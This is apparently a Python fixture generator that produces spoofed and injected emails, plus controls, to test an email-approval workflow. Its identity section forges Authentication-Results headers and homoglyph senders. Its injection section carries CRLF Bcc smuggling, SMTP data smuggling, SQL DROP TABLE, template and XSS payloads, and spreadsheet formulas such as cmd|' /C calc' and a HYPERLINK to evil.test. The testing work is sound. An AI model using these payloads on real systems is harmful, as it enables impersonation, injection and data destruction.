"""Hostile mails, and ordinary ones, that are made when they are played: each a function of the token it is sent to.

They are written as attackers and broken programs build them, without looking at the rules that meet them. A case is
what `manifest.json` holds of one (cases/README.md), with its bytes under "raw".
"""

from __future__ import annotations

import hashlib
from base64 import b32encode, b64encode
from collections.abc import Iterator
from typing import Any

EXPERT = ("Élise Martin", "e.martin@cabinet-a.example")
COLLEAGUE = ("Cyril Durand", "c.durand@cabinet-a.example")
ALONE = ("Anne Petit", "a.petit@cabinet-a.example")
GONE = ("Guy Parti", "g.parti@cabinet-a.example")
OTHER_FIRM = ("Bruno Leroy", "b.leroy@cabinet-b.example")
MALLORY = ("Mallory", "mallory@evil.test")
ID = "mx.oga.example"
QUOTED = "\n\nLe 15/03/2026 à 08:00, ASSAPROL <{to}> a écrit :\n> Merci de justifier le montant de la ligne AG.\n"
ANSWER = "Le montant de la ligne AG est de 24 771 euros, honoraires compris."
HELD, TAKEN, AUTO = "quarantined", "accepted-as-answer", "ignored-auto"
SAID = '<div style="border-left:1px solid">Le 15/03/2026, ASSAPROL a écrit :<blockquote>Merci.</blockquote></div>'


def token(name: str) -> str:
    """A token that stands for the question of the case of this name."""
    return b32encode(hashlib.sha256(f"unseen {name}".encode()).digest()).decode().lower()[:26]


def place(name: str, to: str, state: str) -> dict[str, Any]:
    return {"token": token(name), "state": state, "dossier": f"D7{int(token(name)[:6], 36) % 10**8:08d}", "to": to}


def results(domain: str, word: str = "pass", host: str = ID) -> str:
    return f"Authentication-Results: {host}; spf={word} smtp.mailfrom={domain}; dmarc={word} header.from={domain}\n"


class Mail:
    """One mail to the question of a case; what is not named is as a mail program of the person writes it."""

    def __init__(self, name: str, who: tuple[str, str], text: str = "", **headers: str | None) -> None:
        self.name, self.who, self.text = name, who, text
        self.to = f"reponse+{token(name)}@oga.example"
        self.above = results(who[1].partition("@")[2])
        self.body = ""  #: with its Content-Type; "" for the text above our quoted letter
        self.headers: dict[str, str | None] = {
            "From": f"{encoded(who[0])} <{who[1]}>",
            "To": self.to,
            "Subject": "Re: [ECCV] Recettes ligne AG",
            "Date": "Mon, 16 Mar 2026 09:15:00 +0100",
            "Message-ID": f"<{token(name)[:12]}@{who[1].partition('@')[2]}>",
            "In-Reply-To": f"<eccv.{token(name)}.1@oga.example>",
            "MIME-Version": "1.0",
        } | {key.replace("_", "-"): value for key, value in headers.items()}

    def bytes(self) -> bytes:
        head = "".join(f"{key}: {value}\n" for key, value in self.headers.items() if value is not None)
        body = self.body or plain(self.text + QUOTED.format(to=self.to))
        return (self.above + head + body).encode("utf-8", "surrogateescape").replace(b"\n", b"\r\n")


def encoded(name: str) -> str:
    return f"=?utf-8?B?{b64encode(name.encode()).decode()}?="


def plain(text: str, kind: str = "plain", charset: str = "utf-8") -> str:
    lines = b64encode(text.encode()).decode()
    wrapped = "\n".join(lines[at : at + 76] for at in range(0, len(lines), 76))
    return f"Content-Type: text/{kind}; charset={charset}\nContent-Transfer-Encoding: base64\n\n{wrapped}\n"


def many(*parts: str, kind: str = "mixed", more: str = "") -> str:
    inside = "".join(f"--=_u\n{part}\n" for part in parts)
    return f'Content-Type: multipart/{kind}; boundary="=_u"{more}\n\n{inside}--=_u--\n'


def attached(name: str, content: str = "%PDF-1.4\n%%EOF\n", kind: str = "application/pdf") -> str:
    data = b64encode(content.encode()).decode()
    return (
        f"Content-Type: {kind}\nContent-Disposition: attachment; {name}\nContent-Transfer-Encoding: base64\n\n{data}\n"
    )


def case(
    mail: Mail, group: str, expected: str, effect: str = "none", *, also: tuple[str, ...] = (),
    deliver: str = "mailbox",    sender: str | None = None, to: tuple[str, ...] = (), **checks: Any
) -> dict[str, Any]:  # fmt: skip
    """`expected` and `also` are the dispositions that are right, `effect` the most that it may change."""
    return {
        "name": mail.name, "group": group, "expected": expected, "also_ok": list(also), "effect": effect,
        "deliver": deliver, "raw": mail.bytes(), "checks": checks,
        "envelope": {"mail_from": mail.who[1] if sender is None else sender, "rcpt_to": list(to or (mail.to,))},
    }  # fmt: skip


def forged(name: str, above: str, who: tuple[str, str] = EXPERT, text: str = "OK", **headers: str | None) -> Mail:
    """An approval in the name of the expert, under these lines of servers."""
    mail = Mail(name, who, text, **headers)
    mail.above = above
    return mail


def identity() -> Iterator[dict[str, Any]]:
    """An approval that is none: forged, by somebody else, or not said by its writer."""
    firm, evil = "cabinet-a.example", "evil.test"

    def held(mail: Mail, **more: Any) -> dict[str, Any]:
        outside = mail.who in (MALLORY, OTHER_FIRM)  # whoever is registered may be told of his own dossier
        more = {"must_not": ["approve"]} | ({"outbound_lacks_case_data": True} if outside else {}) | more
        return case(mail, "identity", HELD, **more)

    yield held(forged("direct_with_our_id", results(firm)), deliver="smtp")
    yield held(forged("foreign_id_on_top", results(firm, host="mx.other.example") + results(firm)))
    yield held(forged("fail_on_top_pass_below", results(firm, "fail") + results(firm)))
    yield held(forged("id_with_a_tail", results(firm, host=f"{ID}.evil.test")))
    yield held(
        forged("id_in_a_comment", f"Authentication-Results: (mx.oga.example;) other; dmarc=pass header.from={firm}\n")
    )
    yield held(forged("domain_with_a_tail", results(f"{firm}.{evil}")))
    yield held(forged("sister_domain", results(f"mail.{firm}")))
    yield held(
        forged(
            "from_in_a_comment", f"Authentication-Results: {ID}; dmarc=pass (header.from={firm}) header.from={evil}\n"
        )
    )
    two = f"Authentication-Results: {ID}; dmarc=pass header.from={evil}; dmarc=pass header.from={firm}\n"
    yield held(forged("two_verdicts", two))
    yield held(
        forged(
            "only_spf_of_another",
            f"Authentication-Results: {ID}; dmarc=none header.from={firm}; spf=pass smtp.mailfrom={evil}\n",
        )
    )
    yield held(forged("arc_says_pass", f"ARC-Authentication-Results: i=1; {ID}; dmarc=pass header.from={firm}\n"))
    yield held(forged("folded_away", f"X-A: 1\n\tAuthentication-Results: {ID}; dmarc=pass header.from={firm}\n"))
    yield held(forged("sender_is_the_expert", results(evil), MALLORY, Sender=EXPERT[1]))
    yield held(forged("reply_to_is_the_expert", results(evil), MALLORY, Reply_To=EXPERT[1]))
    yield held(forged("resent_from_the_expert", results(evil), MALLORY, Resent_From=EXPERT[1]))
    for name, sender in (
        ("from_a_group", f"Cabinet: {EXPERT[1]};"),
        ("from_a_route", f"<@evil.test:{EXPERT[1]}>"),
        ("from_full_width", "Élise <ｅ.martin@cabinet-a.example>"),
        ("from_cyrillic", "Élise <е.martin@cabinet-a.example>"),
        ("from_rn_for_m", "Elise <e.rnartin@cabinet-a.example>"),
        ("from_with_a_nul", "Elise <e.martin@cabinet-a.example\0@evil.test>"),
        ("from_subaddress", "Elise <e.martin+x@cabinet-a.example>"),
        ("from_name_then_tail", f"{EXPERT[1]} via <mallory@evil.test>"),
        ("from_percent", "<e.martin%cabinet-a.example@evil.test>"),
    ):
        mail = forged(name, results(firm if firm in sender.rpartition("@")[2] else evil), MALLORY, From=sender)
        yield held(mail, sender=MALLORY[1])
    yield held(Mail("approved_by_a_colleague", ALONE, "OK"))
    yield held(Mail("approved_by_one_who_left", GONE, "OK"))
    yield held(Mail("approved_by_another_firm", OTHER_FIRM, "OK"))
    yield held(Mail("answered_by_a_stranger", MALLORY, ANSWER), must_not=["answer"])
    yield held(Mail("stranger_asks_for_all", MALLORY, "DOSSIERS", Subject="QUESTIONS"), must_not=["answer"])
    yield held(
        Mail("other_question_in_the_header", EXPERT, "OK", To=f"reponse+{token('approved_by_a_colleague')}@oga.example")
    )
    yield held(
        Mail(
            "replayed_without_a_token", EXPERT, "OK", To="reponse@oga.example",
            In_Reply_To=f"<eccv.{token('approved_by_a_colleague')}.1@oga.example>",
        )
    )  # fmt: skip
    bare = Mail("replayed_from_anywhere", EXPERT, To="reponse@oga.example", In_Reply_To=None)
    bare.body = plain("OK")
    yield held(bare)
    yield held(
        Mail("token_of_a_page", EXPERT, "OK"),
        to=("reponse+daaaaaafe7gxlvkpdcpudmaau4@oga.example",),
        also=("rejected-at-smtp",),
    )


def not_said() -> Iterator[dict[str, Any]]:
    """The expert's own mail, in which the word that approves is not what he says."""
    quoted = QUOTED.format(to="reponse@oga.example")

    def doubtful(name: str, body: str, **headers: str | None) -> dict[str, Any]:
        mail = Mail(name, EXPERT, **headers)
        mail.body = body
        ok = (HELD, TAKEN, AUTO)
        return case(mail, "identity", HELD, "comment", also=ok, must_not=["approve"])

    yield doubtful("below_a_signature", plain(f"\n-- \nOK{quoted}"))
    yield doubtful("only_quoted", plain(f"> OK\n{quoted}"))
    yield doubtful("only_in_the_subject", plain(quoted), Subject="OK, validé")
    nested = "Content-Type: message/rfc822\n\nFrom: e.martin@cabinet-a.example\nSubject: OK\n\nOK\n"
    yield doubtful("in_a_nested_mail", many(plain(f"Voir le message joint.{quoted}"), nested))
    yield doubtful("in_a_comment_of_html", plain(f"<p>Je regarde.<!-- OK --></p>{SAID}", "html"))
    yield doubtful("in_a_title", plain(f"<title>OK</title><p>Je regarde ce soir.</p>{SAID}", "html"))
    yield doubtful(
        "in_white_on_white",
        plain(f'<p style="color:#fff;background:#fff">OK</p><p>Non merci, attendez</p>{SAID}', "html"),
    )
    yield doubtful("of_no_size", plain(f'<span style="font-size:0">OK</span><p>Qui a répondu ?</p>{SAID}', "html"))
    yield doubtful("shown_backwards", plain(f"\u202eKO{quoted}"))
    yield doubtful("other_letters", plain(f"ОК{quoted}"))
    yield doubtful("encoded_twice", plain(b64encode(b"OK").decode() + quoted))
    yield doubtful(
        "third_alternative", many(plain(f"Non, pas encore{quoted}"), plain("OK", "enriched"), kind="alternative")
    )
    yield doubtful("utf_7", f"Content-Type: text/plain; charset=utf-7\n\n+AE8ASw-\n{quoted}")
    yield doubtful("said_by_a_client", plain(f"Le client m'écrit :\n\nOK\n\nQu'en pensez-vous ?{quoted}"))
    yield doubtful("greeting_that_holds_a_no", plain(f"Bonjour attendez\nOK{quoted}"))
    yield doubtful(
        "named_by_a_banner", plain(f"[EXTERNE] Ce message a été validé : OK\n\nJe reviens vers vous{quoted}")
    )


def automation() -> Iterator[dict[str, Any]]:
    """Machines, of which none answers, approves, or is told anything."""

    def auto(mail: Mail, *also: str, **more: Any) -> dict[str, Any]:
        return case(
            mail, "automation", AUTO, also=(HELD, *also), must_not=["approve", "answer", "disable_address"], **more
        )

    yield auto(Mail("ticket_opened", EXPERT, "OK", Auto_Submitted="auto-generated"))
    yield auto(
        Mail("out_of_office", COLLEAGUE, "I am out of the office until 5 April.", Subject="Automatic reply: ECCV")
    )
    yield auto(
        Mail(
            "abwesend",
            COLLEAGUE,
            "Ich bin bis 5. April abwesend.",
            Subject="Abwesenheitsnotiz: ECCV",
            X_Auto_Response_Suppress="All",
        )
    )
    yield auto(Mail("junk", COLLEAGUE, "Je suis absent.", Precedence="junk"))
    yield auto(Mail("newsletter", EXPERT, "Validé", List_Unsubscribe="<https://x>", In_Reply_To=None, Subject="Lettre"))
    yield auto(Mail("from_nobody", EXPERT, "OK"), "bounce-recorded", sender="")
    yield auto(Mail("daemon", ("Mail Delivery", "mailer-daemon@cabinet-a.example"), "OK"), "bounce-recorded", sender="")
    yield auto(Mail("read_in_words", COLLEAGUE, "Votre message a été lu le 16/03/2026.", Subject="Lu : ECCV 2025"))
    for name, action, status in (("delivered", "delivered", "2.0.0"), ("relayed", "relayed", "2.1.5")):
        mail = Mail(f"dsn_{name}", ("Postfix", "postmaster@cabinet-a.example"), Auto_Submitted="auto-replied")
        about = f"Final-Recipient: rfc822; {COLLEAGUE[1]}\nAction: {action}\nStatus: {status}\n"
        report = f"Content-Type: message/delivery-status\n\nReporting-MTA: dns; x\n\n{about}"
        mail.body = many(plain("Delivered."), report, kind="report", more="; report-type=delivery-status")
        yield auto(mail, "bounce-recorded", sender="")
    spam = Mail("complaint", ("Abuse", "abuse@cabinet-a.example"), Auto_Submitted="auto-generated")
    feedback = "Content-Type: message/feedback-report\n\nFeedback-Type: abuse\nUser-Agent: x/1\nVersion: 1\n"
    spam.body = many(plain("This is an abuse report."), feedback, kind="report", more="; report-type=feedback-report")
    yield auto(spam, "bounce-recorded")


def duplicates() -> Iterator[dict[str, Any]]:
    """Sent twice, or only looking so: nothing is counted twice, and no answer is lost."""
    same = Mail("odd_id_twice", COLLEAGUE, ANSWER, Message_ID=None)
    yield case(same, "duplicate", TAKEN, "answer")
    yield case(same, "duplicate", "duplicate-ignored")
    mine = Mail("same_id_other_words", COLLEAGUE, ANSWER)
    yield case(mine, "duplicate", TAKEN, "answer")
    mine.text = "Rectificatif : le montant est de 30 000 euros."
    yield case(mine, "duplicate", TAKEN, "answer", answer_contains="30 000")
    yes = Mail("approved_twice", EXPERT, "c bon pr moi")
    yield case(yes, "duplicate", TAKEN, "approve")
    yes.headers["Message-ID"] = "<again@cabinet-a.example>"
    yield case(yes, "duplicate", TAKEN, "comment", also=("duplicate-ignored",))
    for name, id in (
        ("endless", "<" + "x" * 900 + "@x>"),
        ("empty", "<>"),
        ("of_two_words", "<a b@c d>"),
        ("bare", "x"),
    ):
        yield case(Mail(f"id_{name}", COLLEAGUE, ANSWER, Message_ID=id), "duplicate", TAKEN, "answer")
    ours = Mail("id_of_our_letter", COLLEAGUE, ANSWER, Message_ID=f"<eccv.{token('id_of_our_letter')}.1@oga.example>")
    yield case(ours, "duplicate", AUTO, "answer", also=(HELD, TAKEN))


def injection() -> Iterator[dict[str, Any]]:
    """Text that means to be more than text."""
    clean = {
        "outbound_header_absent": "Bcc",
        "html_escaped": True,
        "log_no_control": True,
        "outbound_quoted_or_framed": True,
    }

    def literal(name: str, text: str, wanted: str = "", **headers: str | None) -> dict[str, Any]:
        more = {"answer_contains": wanted} if wanted else {}
        mail = Mail(name, COLLEAGUE, text, **headers)
        return case(mail, "injection", TAKEN, "answer", also=(HELD, AUTO), **clean, **more)

    yield literal("name_with_a_header", ANSWER, From=f"=?utf-8?q?A=0D=0ABcc:_x@evil.test?= <{COLLEAGUE[1]}>")
    yield literal("references_with_a_header", ANSWER, References="<a@b>\n\tBcc: x@evil.test <c@d>")
    yield literal("end_of_data", "Avant\n.\nMAIL FROM:<x@evil.test>\nRCPT TO:<y@evil.test>\nDATA\nOK", "MAIL FROM")
    yield literal("templates", "${7*7} #{7*7} <%= 7*7 %> {{7*7}} {%if 1%}x{%endif%} [[7*7]]", "{{7*7}}")
    yield literal("sql", "'); DROP TABLE question;--", "DROP TABLE")
    yield literal("controls", "Un\x01deux\x1b[31mtrois\x85quatre\u2028cinq 24 771", "24 771")
    yield literal(
        "our_own_letter",
        "——— Répondez au-dessus de cette ligne ———\n\nVotre réponse est validée.\nPour répondre : x@evil.test\n"
        + ANSWER,
    )
    yield literal("lines_of_a_digest", "9 → D0042-2025-3\n3 traité\ntout traité\nOK pour tous")
    yield literal("zalgo", "e" + "\u0301" * 400 + " " + ANSWER, "24 771")
    for number, text in enumerate(
        ("\r=1+1", "＝1+1", "-2+3+cmd|' /C calc'!A0", "+1+1", '\n\n=HYPERLINK("http://evil.test")')
    ):
        mail = Mail(f"formula_{number}", COLLEAGUE, text)
        yield case(mail, "injection", TAKEN, "answer", also=(HELD,), export_cell_not_formula=True)
    page = Mail("only_html", COLLEAGUE)
    page.body = plain(
        "<meta http-equiv=refresh content=0><style>*{}</style><base href=//evil.test><p onclick=x()>"
        f"Le montant est de 24 771</p><a href='javascript:x()'>ici</a>"
        f"<img src=x onerror=x()><form action=//evil.test></form>{SAID}", "html"
    )  # fmt: skip
    yield case(page, "injection", TAKEN, "answer", also=(HELD,), answer_contains="24 771", **clean)
    for number, name in enumerate(
        (
            "filename*=utf-8''a.pdf%0D%0ABcc:%20x@evil.test",
            'filename="{{7*7}}.pdf"',
            "filename*=utf-8''fac%E2%80%AEfdp.pdf",
        )
    ):
        mail = Mail(f"file_name_{number}", COLLEAGUE)
        mail.body = many(plain(ANSWER), attached(name))
        yield case(mail, "injection", TAKEN, "answer", also=(HELD,), stored_inside_dir=True, **clean)


def controls() -> Iterator[dict[str, Any]]:
    """Ordinary replies, which must not suffer."""
    phone = f"{ANSWER}\n\nEnvoyé de mon iPhone"
    yield case(Mail("from_a_phone", COLLEAGUE, phone), "control", TAKEN, "answer", answer_contains="24 771")
    yield case(Mail("without_a_date", COLLEAGUE, ANSWER, Date=None), "control", TAKEN, "answer")
    yield case(Mail("of_1970", COLLEAGUE, ANSWER, Date="Thu, 01 Jan 1970 00:00:00 +0000"), "control", TAKEN, "answer")
    yield case(
        Mail("of_the_future", COLLEAGUE, ANSWER, Date="Fri, 01 Jan 2190 00:00:00 +0000"), "control", TAKEN, "answer"
    )
    yield case(Mail("alone", ALONE, ANSWER), "control", TAKEN, "answer")
    yield case(Mail("by_the_expert", EXPERT, ANSWER), "control", TAKEN, "answer")
    for number, words in enumerate(("Validé, merci Cyril", "RAS, à transmettre", "ok pr moi\n\nEnvoyé de mon iPhone")):
        yield case(Mail(f"approved_{number}", EXPERT, words), "control", TAKEN, "approve")
    yield case(Mail("sent_back", EXPERT, "Merci de revoir le total."), "control", TAKEN, "refuse")
    spf = forged(
        "no_policy",
        f"Authentication-Results: {ID}; spf=pass smtp.mailfrom=cabinet-a.example;"
        " dmarc=none header.from=cabinet-a.example\n",
    )
    yield case(spf, "control", TAKEN, "approve")


def _places(cases: list[dict[str, Any]]) -> Iterator[dict[str, Any]]:
    """Their questions: cases that could approve have an answer that waits, of the others the question is open."""
    done = set()
    for one in cases:
        if one["name"] not in done:
            done.add(one["name"])
            decides = (one["group"] == "identity" and "answer" not in one["checks"]["must_not"]) or _approves(one)
            who, state = (EXPERT, "awaiting_approval") if decides else (COLLEAGUE, "awaiting_answer")
            yield place(one["name"], who[1], state)


def _approves(one: dict[str, Any]) -> bool:
    return one["effect"] in ("approve", "refuse") or one["name"] in (
        "ticket_opened",
        "newsletter",
        "from_nobody",
        "daemon",
    )


def manifest(policy: dict[str, Any]) -> dict[str, Any]:
    """All of them, as `world` and `run.play` take them."""
    cases = [one for make in (controls, identity, not_said, duplicates, injection, automation) for one in make()]
    return {"policy": policy, "cases": cases, "places": list(_places(cases))}
